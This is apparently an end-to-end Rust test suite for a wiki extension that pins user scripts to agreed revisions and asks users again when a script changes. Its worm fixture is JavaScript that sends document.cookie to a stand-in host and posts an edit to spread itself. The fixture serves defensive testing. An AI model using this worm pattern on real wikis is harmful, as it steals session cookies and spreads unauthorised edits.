//! Scripts at the revision to which their user has agreed, and the rules of the wiki about scripts.

use end_to_end::dialog::{Answer, DIALOG};
use end_to_end::{Person, World, scenario};
use serde_json::{Value, json};

/// What the scripts contact.
const SITE: &str = "api.own.test";

/// The form of the questions that a wiki puts.
const NOTICES: &str = ".gadget-consent-notices";

/// Has the device ask the wiki again what it knows of scripts.
const OVERNIGHT: &str = "Object.keys( localStorage ).filter( ( key ) => /\\/imported$/.test( key ) ) \
    .forEach( ( key ) => { const all = JSON.parse( localStorage[ key ] ); \
    Object.keys( all.scripts ).forEach( ( name ) => { all.scripts[ name ][ 0 ] = ''; } ); \
    localStorage[ key ] = JSON.stringify( all ); } ); return true";

/// The script as its author has written it.
fn helper() -> String {
    format!(
        "// @domains connect:{SITE}\ndocument.documentElement.dataset.helper = 'runs'; \
         fetch( 'https://{SITE}/words.json' ).then( \
         () => document.documentElement.dataset.helper = 'reaches' );"
    )
}

/// What a worm makes of it: it calls home, and writes itself into another page.
fn worm() -> String {
    format!(
        "// @domains connect:{SITE}\ndocument.documentElement.dataset.worm = 'runs'; \
         fetch( 'https://{SITE}/home?' + encodeURIComponent( document.cookie ) ); \
         new mw.Api().postWithEditToken( {{ action: 'edit', title: 'Project:Infected', text: 'worm' }} );"
    )
}

async fn noted(world: &World, name: &str) -> Value {
    let script = format!("return document.documentElement.dataset.{name} || null");
    world.browser.js(&script).await
}

async fn until_noted(world: &World, name: &str, what: &str) {
    let script = format!("return document.documentElement.dataset.{name} === '{what}'");
    world
        .browser
        .until(&format!("{name} {what}"), &script)
        .await;
}

/// So that what comes late would have come.
async fn wait_a_while() {
    tokio::time::sleep(std::time::Duration::from_millis(1_500)).await;
}

fn name_of(world: &World, author: &Person) -> String {
    let (_, host) = world.demo.wiki().split_once("://").unwrap();
    format!("//{host}/User:{}/helper.js", author.name)
}

/// A script, and somebody else who imports it.
async fn author_and_user(world: &World) -> (Person, Person, String) {
    let author = Person::with_gadgets(world.demo, &[]);
    author.save_script("helper.js", &helper());
    let title = format!("User:{}/helper.js", author.name);
    let user = Person::with_gadgets(world.demo, &[]);
    user.save_script("common.js", &format!("importScript( '{title}' );"));
    world.browser.log_in(&user).await;
    (author, user, title)
}

/// The revision that an answer names.
fn revision_of(answer: &str) -> u64 {
    let (_, rest) = answer.split_once('@').unwrap_or_else(|| panic!("{answer}"));
    let (revision, _) = rest.split_once(';').unwrap();
    revision.parse().unwrap()
}

#[test]
fn a_worm_does_not_run_while_the_agreed_revision_does() {
    scenario("a_worm_and_the_agreed_revision", async |world| {
        let wiki = world
            .demo
            .with_policy(r#"{ "version": 1, "userScripts": { "pinned": "required" } }"#);
        let browser = &world.browser;
        let log = world.demo.log("*.test");
        let (author, user, title) = author_and_user(world).await;
        browser.article("").await;
        browser.until_asked_for("helper.js").await;
        let question = browser.words(DIALOG).await;
        assert!(question.contains("only this revision runs"), "{question}");
        browser.answer(Answer::Allow).await;
        until_noted(world, "helper", "reaches").await;
        let name = name_of(world, &author);
        let agreed = revision_of(&user.ledger().text(&name));
        assert!(log.paths().iter().all(|path| path == "/words.json"));
        // It is the text of that revision that runs: there is no element with its address.
        browser.article("&action=view").await;
        until_noted(world, "helper", "reaches").await;
        browser.assert_decided().await;

        author.save_script("helper.js", &worm());
        browser.js(OVERNIGHT).await;
        let before = log.paths().len();
        browser.article("&action=view&morning").await;
        until_noted(world, "helper", "reaches").await;
        browser.until_found(NOTICES).await;
        browser
            .until("the change is told", "return /was changed by/.test( document.querySelector( '.gadget-consent-notices' ).innerText )")
            .await;
        let notice = browser.words(NOTICES).await;
        assert!(
            notice.contains(&title) && notice.contains(&author.name),
            "{notice}"
        );
        let link = browser
            .js("return [ ...document.querySelectorAll( '.gadget-consent-notices a' ) ].map( ( one ) => decodeURIComponent( one.href ) ).join( ' ' )")
            .await;
        let link = link.as_str().unwrap();
        assert!(link.contains(&format!("Special:Diff/{agreed}/")), "{link}");
        wait_a_while().await;
        assert_eq!(noted(world, "worm").await, Value::Null);
        let paths = log.paths();
        assert!(
            paths[before..].iter().all(|path| path == "/words.json"),
            "{paths:?}"
        );
        assert_eq!(world.demo.api().raw_page("Project:Infected").unwrap(), None);
        assert_eq!(revision_of(&user.ledger().text(&name)), agreed);
        assert_eq!(browser.errors().await, Vec::<Value>::new());
        drop(wiki);
    });
}

#[test]
fn a_worm_does_not_run_before_its_user_is_asked() {
    scenario("a_worm_and_a_question", async |world| {
        let wiki = world.demo.with_policy(
            r#"{ "version": 1, "userScripts": { "pinned": "required", "whenChanged": "ask" } }"#,
        );
        let browser = &world.browser;
        let log = world.demo.log("*.test");
        let (author, user, title) = author_and_user(world).await;
        browser.article("").await;
        browser.answer_for("helper.js", Answer::Allow).await;
        until_noted(world, "helper", "reaches").await;
        let name = name_of(world, &author);
        let agreed = revision_of(&user.ledger().text(&name));
        author.save_script("helper.js", &worm());
        browser.js(OVERNIGHT).await;
        let before = log.paths().len();
        browser.article("&action=view&morning").await;
        browser.until_asked_for("helper.js").await;
        let question = browser.words(DIALOG).await;
        for words in [
            &*title,
            "has changed since you allowed it",
            "See what changed",
            &format!("Last changed by {}", author.name),
        ] {
            assert!(question.contains(words), "{words}: {question}");
        }
        wait_a_while().await;
        assert_eq!(noted(world, "helper").await, Value::Null);
        browser.answer(Answer::Later).await;
        browser.until_dialog_closed().await;
        wait_a_while().await;
        assert_eq!(noted(world, "worm").await, Value::Null);
        assert_eq!(log.paths().len(), before);
        assert_eq!(world.demo.api().raw_page("Project:Infected").unwrap(), None);
        // Its author takes it back, and its user agrees to the page as it is.
        author.save_script("helper.js", &format!("{} // mended", helper()));
        browser.article("&action=view&noon").await;
        browser.answer_for("helper.js", Answer::Allow).await;
        until_noted(world, "helper", "reaches").await;
        assert!(revision_of(&user.ledger().text(&name)) > agreed);
        assert_eq!(noted(world, "worm").await, Value::Null);
        drop(wiki);
    });
}

#[test]
fn an_import_runs_the_revision_that_it_names_and_no_other() {
    scenario("an_import_of_a_revision", async |world| {
        let browser = &world.browser;
        let author = Person::with_gadgets(world.demo, &[]);
        let note = |word: &str| format!("document.documentElement.dataset.{word} = 'runs';");
        author.save_script("plain.js", &note("first"));
        author.save_script("other.js", &note("other"));
        let user = Person::with_gadgets(world.demo, &[]);
        user.save_script("common.js", "window.own = true;");
        browser.log_in(&user).await;
        browser.article("").await;
        let revision = async |page: &str| {
            let found = browser
                .js(&format!(
                    "return fetch( '/api.php?action=query&format=json&formatversion=2&prop=revisions&rvprop=ids&titles=' \
                     + encodeURIComponent( 'User:{}/{page}' ) ).then( ( answer ) => answer.json() ) \
                     .then( ( {{ query }} ) => query.pages[ 0 ].revisions[ 0 ].revid )",
                    author.name
                ))
                .await;
            found.as_u64().unwrap()
        };
        let (first, other) = (revision("plain.js").await, revision("other.js").await);
        author.save_script("plain.js", &note("second"));
        let title = format!("User:{}/plain.js", author.name);
        let import = async |oldid: u64| {
            browser
                .js(&format!(
                    "return mw.loader.using( 'ext.gadget.consent' ).then( ( require ) => \
                     require( 'ext.gadget.consent' ).import( '{title}', {{ oldid: {oldid} }} ) ) \
                     .then( () => 'ran', ( error ) => error.reason || String( error ) )"
                ))
                .await
        };
        assert_eq!(import(first).await, json!("ran"));
        assert_eq!(noted(world, "first").await, json!("runs"));
        assert_eq!(noted(world, "second").await, Value::Null);
        assert_eq!(import(other).await, json!("other-page"));
        assert_eq!(noted(world, "other").await, Value::Null);
        browser
            .until("it is told", "return /one of another page/.test( ( document.querySelector( '.gadget-consent-notices' ) || document.body ).innerText )")
            .await;
        assert_eq!(import(99_999_999).await, json!("missing"));
    });
}
